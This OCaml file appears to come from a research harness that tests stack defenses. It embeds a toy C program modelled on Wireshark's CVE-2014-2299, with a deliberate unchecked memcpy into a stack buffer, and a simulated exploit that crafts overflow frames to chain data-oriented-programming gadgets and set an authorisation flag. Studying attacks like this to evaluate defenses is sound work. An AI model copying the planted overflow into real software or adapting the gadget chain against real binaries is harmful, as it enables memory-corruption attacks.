let granted = "GRANTED:"

let source =
  {|
long w_auth = 0;
long w_zero_cell = 0;
long w_scratch = 0;

// DOP gadget host (paper: packet_list_change_record holds the gadgets):
// one attacker-steerable add-and-store per invocation.
void packet_list_change_record(long colp, long cinfo, long packet_list) {
  if (colp != 0) {
    if (cinfo != 0) *(long*)colp = *(long*)cinfo + packet_list;
  }
}

// CVE-2014-2299: frame data of attacker-declared length copied into a
// fixed-size buffer.
void packet_list_dissect_and_cache_record(char *data, long len) {
  long col = 0;
  long cinfo = 0;
  long packet_list = 0;
  char pd[256];
  memcpy(pd, data, len);
  packet_list_change_record(col, cinfo, packet_list);
}

// Caller: the cell-list iteration is the gadget dispatcher; its loop
// condition cell_list is among the overflow's victims (paper §V-C).
void gtk_tree_view_column_cell_set_cell_data() {
  char fdata[2048];
  long cell_list = 1;
  long flen = 0;
  while (cell_list > 0) {
    flen = read_input(fdata, 2047);
    if (flen <= 0) break;
    packet_list_dissect_and_cache_record(fdata, flen);
    cell_list -= 1;
  }
  if (w_auth == 4919) { print_str("GRANTED:"); print_int(w_auth); print_newline(); }
  else { print_str("capture done"); print_newline(); }
}

int main() { gtk_tree_view_column_cell_set_cell_data(); return 0; }
|}

let program = lazy (Minic.Driver.compile source)
let benign_chunks = [ "\x01\x02\x03\x04tiny-mpeg-frame" ]
let auth_magic = 4919L

let callee = "packet_list_dissect_and_cache_record"
let caller = "gtk_tree_view_column_cell_set_cell_data"

let callee_slots =
  [ ("data", 8, 8); ("len", 8, 8); ("col", 8, 8); ("cinfo", 8, 8);
    ("packet_list", 8, 8); ("pd", 256, 1) ]

let caller_slots = [ ("fdata", 2048, 1); ("cell_list", 8, 8); ("flen", 8, 8) ]

let attack ~backend (applied : Defenses.Defense.applied) ~seed =
  let chain = [ "main"; caller; callee ] in
  let rows = Attacks.Layout.chain applied.prog chain in
  let rel_of =
    let exact from_v (f, v) =
      Attacks.Layout.distance rows ~from_:(callee, from_v) ~to_:(f, v)
    in
    match exact "pd" (callee, "col") with
    | Some _ ->
        fun (f, v) ->
          (match exact "pd" (f, v) with
          | Some d -> d
          | None -> invalid_arg ("wireshark attack: no offset for " ^ v))
    | None ->
        (* Smokestack binary: guess both frames' intra-slab layouts. *)
        let rng = Sutil.Simrng.create ~seed in
        let callee_guess =
          Dopkit.guessed_slab_offsets ~slots:callee_slots
            ~vars:[ "pd"; "col"; "cinfo"; "packet_list" ] ~fid_slot:true
            ~seed:(Sutil.Simrng.next_u64 rng)
        in
        let caller_guess =
          Dopkit.guessed_slab_offsets ~slots:caller_slots
            ~vars:[ "cell_list"; "fdata"; "flen" ] ~fid_slot:true
            ~seed:(Sutil.Simrng.next_u64 rng)
        in
        let slab f v =
          match
            Attacks.Layout.distance rows ~from_:(callee, "__ss_total")
              ~to_:(f, "__ss_total")
          with
          | Some gap -> gap + v
          | None -> invalid_arg "wireshark attack: no slab information"
        in
        let pd_off = List.assoc "pd" callee_guess in
        fun (f, v) ->
          if String.equal f callee then List.assoc v callee_guess - pd_off
          else slab caller (List.assoc v caller_guess) - pd_off
  in
  Dopkit.deliver ~backend applied ~seed ~marker:granted (fun () ->
    let gaddrs = Attacks.Layout.global_addrs applied.prog in
    let addr name = Int64.of_int (List.assoc name gaddrs) in
    (* a two-gadget chain of "[col] <- [cinfo] + packet_list" stores,
       stitched by corrupting the caller's cell_list dispatcher:
       frame 1: w_scratch = [w_zero_cell] + 0x1000, keep looping;
       frame 2: w_auth    = [w_scratch]   + 0x337,  stop. *)
    let frame ~col ~cinfo ~addend ~remaining =
      Attacks.Overflow.craft ~len:256
        [
          Attacks.Overflow.u64 (rel_of (callee, "col")) col;
          Attacks.Overflow.u64 (rel_of (callee, "cinfo")) cinfo;
          Attacks.Overflow.u64 (rel_of (callee, "packet_list")) addend;
          Attacks.Overflow.u64 (rel_of (caller, "cell_list")) remaining;
        ]
    in
    ignore auth_magic;
    [
      frame ~col:(addr "w_scratch") ~cinfo:(addr "w_zero_cell") ~addend:0x1000L
        ~remaining:2L;
      frame ~col:(addr "w_auth") ~cinfo:(addr "w_scratch") ~addend:0x337L
        ~remaining:1L;
    ])
